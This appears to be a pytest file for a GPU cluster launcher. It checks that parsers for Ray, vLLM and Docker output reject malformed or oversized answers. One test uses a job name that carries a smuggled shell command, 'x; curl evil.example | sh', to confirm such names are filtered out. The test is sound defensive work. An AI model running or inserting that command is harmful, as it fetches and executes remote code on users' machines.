"""Single answers that once led to a traceback, or to no end: each one by itself."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any

import pytest

from launcher.batch import job_store
from launcher.core.domain import Answer
from launcher.core.errors import UnreadableAnswer
from launcher.hosts import pairs
from launcher.hosts.discovery import local_assets
from launcher.network import network_plan
from launcher.tools import (
    docker_output,
    gpu_survey,
    host_output,
    ray,
    ray_judges,
    serving_judges,
    vllm,
)
from launcher.tools.ray_judges import parse_payload
from tests import supervision
from tests.hostile import seeds


def answer(said: object) -> Answer:
    return Answer(node="gpu01", code=0, out=said if isinstance(said, str) else json.dumps(said))


def rows(*each: Any) -> list[Any]:
    return list(each)


def usage(text: str) -> str:
    return f"Active:\n 1 node_a\n\nTotal Usage:\n {text}\n"


@pytest.mark.parametrize(
    "read",
    [
        lambda: ray.parse_nodes(rows({"node_id": "a", "node_ip": [], "state": "ALIVE"})),
        lambda: ray.parse_nodes(rows(1)),
        lambda: ray.parse_ranks(rows({"name": 5, "state": "ALIVE"}), ()),
        lambda: ray.parse_ranks(
            rows({"name": "vllm_Worker_a1", "state": "ALIVE", "node_id": [1]}), ()
        ),
        lambda: ray.parse_status("Active:\n " + "9" * 5000 + " node_a\n"),
        lambda: parse_payload(answer({"jobs": None})),
        lambda: parse_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
        lambda: parse_payload(answer({"offset": 10**30})),
        lambda: docker_output.parse_containers(
            json.dumps([{"Name": "/a", "Id": {}, "Config": {}, "State": {}}])
        ),
        lambda: docker_output.parse_containers(
            '[{"Name": "/a", "Id": "b", "Config": {}, "State": {"ExitCode": 1e999}}]'
        ),
        lambda: docker_output.parse_containers("[" * 100_000),
        lambda: pairs.parse_probes(answer("[" * 100_000)),
        lambda: host_output.parse_probe(
            "@@vlaunch home\n/\n@@vlaunch rc 0\n@@vlaunch addr\n"
            + "[" * 100_000
            + "\n@@vlaunch rc 0\n"
            "@@vlaunch containers\n\n@@vlaunch rc 0\n"
        ),
        lambda: job_store.parse_outputs(
            "n1", json.dumps({"files": [{"path": "summary.json", "bytes": 10**400, "sha256": ""}]})
        ),
        lambda: job_store.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
    ],
)
def test_answers_that_cannot_be_read(read: Callable[[], Any]) -> None:
    """Say so."""
    with pytest.raises(UnreadableAnswer):
        read()


def test_figures_that_are_none() -> None:
    """Are left out."""
    assert (
        vllm.parse_capacity(
            {"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}
        ).tokens
        is None
    )
    assert (
        vllm.parse_capacity(
            {}, "KV cache size: , tokens\nMaximum concurrency for 1 tokens per request: 1.2.3x"
        ).concurrency
        is None
    )
    assert vllm.find_exception("") is None
    assert ray.parse_status(usage("1.2.3/4 GPU")).gpus_total is None
    assert (
        serving_judges.busy_gpus(
            {"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}
        )
        == 0
    )
    assert serving_judges.claimed_gpus({"metadata": {serving_judges.GPUS: "inf"}}) == 0


def test_a_name_that_is_a_command() -> None:
    """Hints name jobs, and people run hints."""
    job = seeds.job(
        "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
    )
    row = {**supervision.server_row(supervision.make_spec()), "name": "x; curl evil.example | sh"}
    assert serving_judges.gpu_users(supervision.head_report(row)) == []
    assert serving_judges.job_gpu_users({"jobs": [job]}) == []
    assert serving_judges.active_batches({"jobs": [job]}) == []


def test_files_that_are_less_than_nothing() -> None:
    """What is on its way goes on at an offset that a file has."""
    entry = job_store.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
    assert dict(entry.inputs) == {"c": 3}


def test_a_report_of_another_node() -> None:
    """Counts for none."""
    said = json.dumps({"node": "gpu02", "backend": "gloo"})
    assert network_plan.parse_answers({"gpu01": [answer(said)]}) == (
        {},
        {"gpu01": "the network probe's report is from another node"},
    )


@pytest.mark.parametrize("said", [{"local": "-1"}, {"local": ""}, {"prefixlen": 129}])
def test_an_address_that_is_none(said: dict[str, Any]) -> None:
    """Checks compare it with others: the node's answer cannot be read."""
    text = dict(seeds.probes())["gpu01"]
    parts = text.split("@@vlaunch addr\n")
    rows, mark, rest = parts[1].partition("\n@@vlaunch")
    links = json.loads(rows)
    links[0]["addr_info"][0].update(said)
    with pytest.raises(UnreadableAnswer):
        host_output.parse_probe(f"{parts[0]}@@vlaunch addr\n{json.dumps(links)}{mark}{rest}")


def test_a_token_that_is_none() -> None:
    """It would go to every node, and be taken out of all that is shown."""
    text = dict(seeds.probes())["gpu01"].replace(
        "@@vlaunch token\ntok", "@@vlaunch token\n" + "status \n" * 9
    )
    assert host_output.parse_probe(text).token == ""


def test_tags_that_are_no_text() -> None:
    """Of an image that a host has."""
    item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
    found = local_assets.parse_local_assets(
        f"@@stock home {'9' * 5000} /d\n@@stock images\n{json.dumps([item])}\n@@stock end\n"
    )
    assert list(found.images) == ["vllm:1"]
    assert found.homes[0].free is None


def test_spaces_without_end() -> None:
    """A pattern that tries every way to part them."""
    began = time.thread_time()
    gpu_survey.parse_processes("GPU-x, 1," + " " * 200_000)
    assert time.thread_time() - began < 2


def test_fields_that_are_known_have_a_kind() -> None:
    """And what is not known is left to who asked for it."""
    ray_judges.check_fields({"servers": 5, "new": []}, "it")
    with pytest.raises(UnreadableAnswer, match="`offset`"):
        ray_judges.check_fields({"offset": "200"}, "it")


@pytest.mark.parametrize(
    ("said", "field"),
    [
        ({"jobs": [{"submission_id": "a"}]}, "`jobs.0.status` is missing"),
        ({"jobs": [{"status": "RUNNING"}]}, "`jobs.0.submission_id` is missing"),
        ({"jobs": [{"submission_id": "a", "status": None}]}, "`jobs.0.status` cannot be None"),
        ({"job": None}, "`job` cannot be None"),
        ({"offset": 2**62}, "`offset` cannot be"),
        ({"left": [1, True]}, "`left.1` cannot be True"),
    ],
)
def test_a_head_that_leaves_out_what_others_take_for_granted(
    said: dict[str, Any], field: str
) -> None:
    """A job in a list has a state, and a name."""
    with pytest.raises(UnreadableAnswer, match=field):
        ray_judges.check_fields(said, "it")
    ray_judges.check_fields({"job": {"status": None}, "jobs": []}, "it")
